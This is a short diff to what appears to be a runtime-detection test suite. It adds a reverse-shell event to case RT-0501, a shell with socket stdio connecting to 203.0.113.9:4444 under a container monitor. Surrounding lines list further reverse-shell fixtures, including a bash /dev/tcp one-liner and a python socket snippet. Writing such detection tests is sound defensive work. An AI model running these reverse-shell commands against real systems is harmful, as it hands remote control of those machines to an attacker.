@@ -9,6 +9,7 @@ from tests.detection.runtime_events import HOST, Case, Cases, moved, raised, ran
 CASES: Cases = {
     "RT-0501": (
         [
+            ran("sh", stdio=("socket", "socket", "socket"), peer="203.0.113.9:4444", by=["conmon -c x", "systemd"]),
             ran("sh -i", stdio=("socket", "socket", "socket"), peer="192.0.2.9:443"),
             ran("bash -c 'bash -i >& /dev/tcp/192.0.2.9/443 0>&1'"),
             ran("python -c 'import socket,subprocess,os;s=socket.socket();s.connect((1,2));os.dup2(s.fileno(),0)'"),
